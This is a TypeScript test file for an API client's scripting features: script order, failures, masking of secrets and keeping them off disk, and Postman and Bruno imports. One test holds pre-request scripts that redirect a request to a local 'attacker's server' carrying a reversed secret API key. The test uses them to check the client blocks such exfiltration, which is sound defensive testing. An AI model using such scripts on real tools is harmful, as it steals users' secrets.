import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bridgeErrorSchema, dispatch, httpRequestSpecSchema, type BridgeError, type HttpExchange } from '../../shared/contract';
import { scanForSecret } from '../test-support';
import { createCourier, type Courier } from './create-courier';

/**
 * Scripts around a real send: collection → folder → request, pre-request edits going out, pm.test results
 * coming back and kept in history, variables written through the variables service, secrets never on disk.
 */
const CANARY = 'Zx7!script-canary s3cr3t+/=';
const FAST_SCRYPT = { N: 1024, r: 8, p: 1 };
let target: Server;
let base: string;
const seen: { url: string; headers: IncomingHttpHeaders }[] = [];

beforeAll(async () => {
  target = createServer((request, response) => {
    seen.push({ url: request.url ?? '', headers: request.headers });
    response.writeHead(request.url?.startsWith('/login') ? 200 : 201, { 'Content-Type': 'application/json' });
    const user = request.headers.authorization === 'Bearer tok-42' ? 'ada' : null;
    response.end(JSON.stringify({ token: 'tok-42', path: request.url, echoed: request.headers['x-key'] ?? null, user }));
  });
  await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(target.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => target.close(resolve)));

async function call(courier: Courier, method: string, input: unknown): Promise<Record<string, unknown>> {
  const result = await dispatch(courier.handlers, method, input);
  if (!result.ok) throw new Error(`${method}: ${result.error.code} ${result.error.message}`);
  return result.value as Record<string, unknown>;
}

/** the pm.test results of an exchange: the scripts' part of its Tests list (absent when there is none) */
const scripted = (exchange: HttpExchange | null | undefined) => {
  const results = exchange?.tests?.results.filter((test) => test.source === 'script') ?? [];
  return results.length > 0 ? results : undefined;
};
describe('scripts around a send', () => {
  it('runs collection, folder and request scripts outermost first; edits go out; results come back and stay in history', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-'));
    const courier = createCourier({
      dataDir,
      mode: 'web',
      version: '0',
      openExternal: () => false,
      scrypt: FAST_SCRYPT,
      onInternalError: (e) => console.error(e),
    });
    try {
      const env = (await call(courier, 'environments.create', { name: 'dev' })) as { environments: { id: string }[] };
      await call(courier, 'environments.setActive', { id: env.environments[0]!.id });
      const api = (await call(courier, 'workspace.createContainer', { parent: null, name: 'API' })).path as string;
      const users = (await call(courier, 'workspace.createContainer', { parent: api, name: 'Users' })).path as string;
      await call(courier, 'workspace.saveContainer', {
        path: api,
        settings: {
          name: 'API',
          scripts: {
            preRequest: 'console.log("collection pre"); pm.variables.set("order", "c");',
            postResponse: 'pm.test("collection sees 2xx", () => pm.response.to.be.success);',
          },
        },
      });
      await call(courier, 'workspace.saveContainer', {
        path: users,
        settings: { name: 'Users', scripts: { preRequest: 'console.log("folder pre"); pm.variables.set("order", pm.variables.get("order") + "f");' } },
      });
      const login = httpRequestSpecSchema.parse({
        method: 'GET',
        url: `${base}/login`,
        scripts: {
          preRequest: 'pm.request.headers.add({ key: "X-Order", value: pm.variables.get("order") + "r" });',
          postResponse:
            'pm.environment.set("token", pm.response.json().token);\npm.test("status is 200", () => pm.response.to.have.status(200));\npm.test("fails on purpose", () => pm.expect(pm.response.code).to.equal(404));',
        },
      });
      const loginPath = (await call(courier, 'workspace.createRequest', { parent: users, name: 'Login', request: login })).path as string;
      const exchange = (await call(courier, 'http.send', { requestId: 'r1', request: login, workspacePath: loginPath })) as unknown as HttpExchange;
      expect(seen.at(-1)?.headers['x-order']).toBe('cfr');
      expect(scripted(exchange)).toEqual([
        { name: 'collection sees 2xx', outcome: 'passed', source: 'script', origin: 'Post-response script of collection "API"' },
        { name: 'status is 200', outcome: 'passed', source: 'script', origin: 'Post-response script of "Login"' },
        { name: 'fails on purpose', outcome: 'failed', message: 'expected 200 to equal 404', source: 'script', origin: 'Post-response script of "Login"' },
      ]);
      expect(exchange.scriptConsole?.map((line) => line.text)).toEqual(['collection pre', 'folder pre']);

      // the next request uses the variable the script set
      const next = httpRequestSpecSchema.parse({ method: 'GET', url: `${base}/me?t={{token}}` });
      await call(courier, 'http.send', { requestId: 'r2', request: next });
      expect(seen.at(-1)?.url).toBe('/me?t=tok-42');

      // history keeps the results with the exchange
      const list = (await call(courier, 'history.list', { filter: {} })) as { entries: { id: string }[] };
      const entries = await Promise.all(list.entries.map((entry) => call(courier, 'history.get', { id: entry.id })));
      const kept = entries.map((entry) => scripted(entry.exchange as HttpExchange | null)).find((results) => results !== undefined);
      expect(kept?.map((result) => result.outcome)).toEqual(['passed', 'passed', 'failed']);
    } finally {
      await courier.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it('a failing pre-request script stops the send, naming the script; a failing post-response script is a failed result', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-'));
    const courier = createCourier({ dataDir, mode: 'web', version: '0', openExternal: () => false, scrypt: FAST_SCRYPT });
    try {
      const count = seen.length;
      const refused = await dispatch(courier.handlers, 'http.send', {
        requestId: 'p1',
        request: { method: 'GET', url: `${base}/x`, scripts: { preRequest: 'for (;;) {}' } },
      });
      expect(refused).toMatchObject({
        ok: false,
        error: { code: 'SCRIPT_FAILED', message: 'Pre-request script of "GET /x" used up its CPU time limit of 1 s and was stopped.' },
      }); // named as its tab shows it
      expect(seen.length).toBe(count);
      const sent = (await call(courier, 'http.send', {
        requestId: 'p2',
        request: { method: 'GET', url: `${base}/x`, scripts: { postResponse: 'pm.cookies.get("a")' } },
      })) as unknown as HttpExchange;
      expect(scripted(sent)).toEqual([
        expect.objectContaining({
          outcome: 'failed',
          message: expect.stringMatching(/^Post-response script of "GET \/x" failed: UnsupportedError: pm\.cookies is not supported/),
        }),
      ]);
    } finally {
      await courier.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it('a pre-request script that throws keeps what it logged before, masked, on the error it stops the send with', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-'));
    const courier = createCourier({ dataDir, mode: 'web', version: '0', openExternal: () => false, scrypt: FAST_SCRYPT });
    try {
      const count = seen.length;
      const preRequest = 'console.log("before the throw"); console.warn("second line"); throw new Error("boom");';
      const refused = await dispatch(courier.handlers, 'http.send', { requestId: 't1', request: { method: 'GET', url: `${base}/t`, scripts: { preRequest } } });
      expect(refused).toMatchObject({ ok: false, error: { code: 'SCRIPT_FAILED', message: expect.stringContaining('boom') } });
      const error = (refused as { ok: false; error: BridgeError }).error;
      expect(bridgeErrorSchema.parse(error)).toEqual(error);
      expect(error.scriptConsole?.map((line) => [line.level, line.text])).toEqual([
        ['log', 'before the throw'],
        ['warn', 'second line'],
      ]);
      expect(seen.length).toBe(count);
    } finally {
      await courier.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it('a script that reads a secret and logs it, tests it, and copies it leaves no trace of it on disk', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-leak-'));
    const courier = createCourier({ dataDir, mode: 'web', version: '0', openExternal: () => false, scrypt: FAST_SCRYPT });
    try {
      await call(courier, 'vault.unlock', { passphrase: 'correct horse battery staple' });
      await call(courier, 'variables.saveScope', { scopeId: 'global', variables: [{ name: 'apiKey', value: CANARY, secret: true }] });
      const script = {
        preRequest: 'console.log("key", pm.globals.get("apiKey")); pm.request.headers.add({ key: "X-Key", value: pm.globals.get("apiKey") });',
        postResponse:
          'var key = pm.globals.get("apiKey"); console.log("post", key); console.error(JSON.stringify({ k: key }));\n' +
          'pm.test("key is " + key, () => pm.expect(pm.response.json().echoed).to.equal(key + "!"));\n' +
          'pm.globals.set("copy", "Bearer " + key); pm.globals.set("urlCopy", "k=" + encodeURIComponent(key)); pm.collectionVariables.set("plain", "not secret");',
      };
      const collection = (await call(courier, 'workspace.createContainer', { parent: null, name: 'Leaky' })).path as string;
      const request = httpRequestSpecSchema.parse({ method: 'GET', url: `${base}/secret`, scripts: script });
      const saved = (await call(courier, 'workspace.createRequest', { parent: collection, name: 'Secret', request })).path as string;
      const exchange = (await call(courier, 'http.send', { requestId: 's1', request, workspacePath: saved })) as unknown as HttpExchange;
      // the server did get it (the test is not passing by sending nothing)...
      expect(seen.at(-1)?.headers['x-key']).toBe(CANARY);
      // ...and what comes back shows it masked
      expect(JSON.stringify(exchange)).not.toContain(CANARY);
      expect(scripted(exchange)?.[0]).toMatchObject({ outcome: 'failed' });
      expect(exchange.scriptConsole?.length).toBe(3);
      const state = (await call(courier, 'variables.state', {})) as {
        global: { variables: { name: string; secret: boolean }[] };
        collection: { variables: { name: string; secret: boolean }[] };
      };
      expect(state.global.variables.find((v) => v.name === 'copy')?.secret).toBe(true);
      // a copy in another spelling (URL-encoded here) is a secret too, as masking would hide it
      expect(state.global.variables.find((v) => v.name === 'urlCopy')?.secret).toBe(true);
      expect(state.collection.variables.find((v) => v.name === 'plain')?.secret).toBe(false);
      await call(courier, 'history.exportHar', { filter: {} });
      await courier.close();
      const { hits, filesScanned } = await scanForSecret([dataDir], CANARY);
      expect(filesScanned).toBeGreaterThan(2);
      expect(hits).toEqual([]);
    } finally {
      await courier.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it('a pre-request script cannot move a request to another origin while a secret is within its reach', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-exfil-'));
    const courier = createCourier({ dataDir, mode: 'web', version: '0', openExternal: () => false, scrypt: FAST_SCRYPT });
    // the attacker's server: any hit is the failure
    const stolen: string[] = [];
    const evil = createServer((request, response) => {
      stolen.push(request.url ?? '');
      response.end('ok');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    const evilBase = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    try {
      const collection = (await call(courier, 'workspace.createContainer', { parent: null, name: 'Shared' })).path as string;
      let sends = 0;
      const sendWith = async (preRequest: string) => {
        const request = httpRequestSpecSchema.parse({ method: 'GET', url: `${base}/data`, scripts: { preRequest } });
        const saved = (await call(courier, 'workspace.createRequest', { parent: collection, name: `R${++sends}`, request })).path as string;
        return dispatch(courier.handlers, 'http.send', { requestId: `x${sends}`, request, workspacePath: saved });
      };
      const moveUrl = `pm.request.url = "${evilBase}/?k=" + String(pm.globals.get("apiKey")).split("").reverse().join("");`;
      const moveVariable = `pm.variables.set("host", "${evilBase}"); pm.request.url = "{{host}}/x";`;
      // with no secret anywhere, a script may send the request where it likes
      expect(await sendWith(moveUrl)).toMatchObject({ ok: true });
      expect(stolen).toHaveLength(1);
      await call(courier, 'vault.unlock', { passphrase: 'correct horse battery staple' });
      await call(courier, 'variables.saveScope', { scopeId: 'global', variables: [{ name: 'apiKey', value: CANARY, secret: true }] });
      for (const script of [moveUrl, moveVariable]) {
        const outcome = await sendWith(script);
        expect(outcome).toMatchObject({
          ok: false,
          error: {
            code: 'SCRIPT_FAILED',
            message: expect.stringMatching(
              /moved the request from http:\/\/127\.0\.0\.1:\d+ to http:\/\/127\.0\.0\.1:\d+ while secret values were within their reach/,
            ),
          },
        });
      }
      expect(stolen).toHaveLength(1);
      // the same origin stays allowed: a script that adds a query parameter or a header still sends
      expect(await sendWith('pm.request.url = pm.request.url.toString() + "?page=2";')).toMatchObject({ ok: true });
      expect(seen.at(-1)?.url).toBe('/data?page=2');
    } finally {
      await new Promise((resolve) => evil.close(resolve));
      await courier.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it('an imported Bruno request runs unchanged: its assert block, post-response vars and tests block (bru, res, test, expect)', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-bruno-'));
    const courier = createCourier({ dataDir, mode: 'web', version: '0', openExternal: () => false, scrypt: FAST_SCRYPT });
    try {
      const bru = [
        'meta {',
        '  name: Login',
        '  type: http',
        '  seq: 1',
        '}',
        '',
        'post {',
        `  url: ${base}/login`,
        '  body: json',
        '  auth: none',
        '}',
        '',
        'body:json {',
        '  {"user": "ada"}',
        '}',
        '',
        'assert {',
        '  res.status: eq 200',
        '  res.body.token: isString',
        '  res.body.user: eq nobody',
        '}',
        '',
        'vars:post-response {',
        '  token: res.body.token',
        '}',
        '',
        'tests {',
        '  test("has a token", function () {',
        '    expect(res.getBody().token).to.equal("tok-42");',
        '    bru.setVar("who", "ada");',
        '  });',
        '}',
        '',
      ].join('\n');
      const parsed = (await call(courier, 'import.parse', { text: bru })) as { collections: unknown[]; warnings: unknown[] };
      expect(parsed.warnings).toEqual([]);
      const imported = (await call(courier, 'workspace.importCollections', { collections: parsed.collections })) as { collections: { path: string }[] };
      const tree = (await call(courier, 'workspace.tree', {})) as { nodes: { path: string; name: string; kind: string }[] };
      const loginPath = tree.nodes.find((node) => node.name === 'Login' && node.path.startsWith(imported.collections[0]!.path))!.path;
      const saved = (await call(courier, 'workspace.readRequest', { path: loginPath })) as { request: unknown };
      const login = (await call(courier, 'http.send', { requestId: 'Login', request: saved.request, workspacePath: loginPath })) as unknown as HttpExchange;
      const all = (login.tests?.results ?? []).map((test) => [test.name, test.outcome]);
      expect(all).toEqual([
        ['status equals 200', 'passed'],
        ['$.token is type string', 'passed'],
        ['$.user equals nobody', 'failed'],
        ['has a token', 'passed'],
      ]);
      const state = (await call(courier, 'variables.state', {})) as { collection: { variables: { name: string; value: string }[] } };
      expect(state.collection.variables.find((v) => v.name === 'who')?.value).toBe('ada');
    } finally {
      await courier.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });

  it('an imported Postman collection runs its scripts unchanged: tests pass, pm.environment.set feeds the next request', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'courier-scripts-import-'));
    const courier = createCourier({ dataDir, mode: 'web', version: '0', openExternal: () => false, scrypt: FAST_SCRYPT });
    try {
      const env = (await call(courier, 'environments.create', { name: 'dev' })) as { environments: { id: string }[] };
      await call(courier, 'environments.setActive', { id: env.environments[0]!.id });
      const text = (await readFile(new URL('../../shared/importers/postman/fixtures/v2/scripted.json', import.meta.url), 'utf8')).replace(
        'http://127.0.0.1:1',
        base,
      );
      const parsed = (await call(courier, 'import.parse', { text })) as { collections: unknown[] };
      const imported = (await call(courier, 'workspace.importCollections', { collections: parsed.collections })) as { collections: { path: string }[] };
      const root = imported.collections[0]!.path;
      const tree = (await call(courier, 'workspace.tree', {})) as { nodes: { path: string; name: string; kind: string }[] };
      const pathOf = (name: string) => tree.nodes.find((node) => node.name === name && node.path.startsWith(root))!.path;
      const send = async (name: string) => {
        const saved = (await call(courier, 'workspace.readRequest', { path: pathOf(name) })) as { request: unknown };
        return (await call(courier, 'http.send', { requestId: name, request: saved.request, workspacePath: pathOf(name) })) as unknown as HttpExchange;
      };
      const login = await send('Login');
      expect(seen.at(-1)?.headers['x-request-start']).toMatch(/^\d+$/);
      expect(scripted(login)?.map((test) => [test.name, test.outcome, test.origin])).toEqual([
        ['responds quickly', 'passed', 'Post-response script of collection "Scripted"'],
        ['folder: JSON', 'passed', 'Post-response script of folder "Auth"'],
        ['Status code is 200', 'passed', 'Post-response script of "Login"'],
        ['has a token', 'passed', 'Post-response script of "Login"'],
      ]);
      const count = seen.length;
      const me = await send('Me');
      // its test script's pm.sendRequest("{{base}}/audit") goes to the request's own origin, after the request
      expect(seen.slice(count).map((request) => request.url)).toEqual(['/me', '/audit']);
      expect(seen.at(-2)?.headers.authorization).toBe('Bearer tok-42');
      expect(scripted(me)?.map((test) => test.outcome)).toEqual(['passed', 'passed']);
      const state = (await call(courier, 'variables.state', {})) as { collection: { variables: { name: string; value: string }[] } };
      expect(state.collection.variables.find((v) => v.name === 'runs')?.value).toBe('2');
    } finally {
      await courier.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});
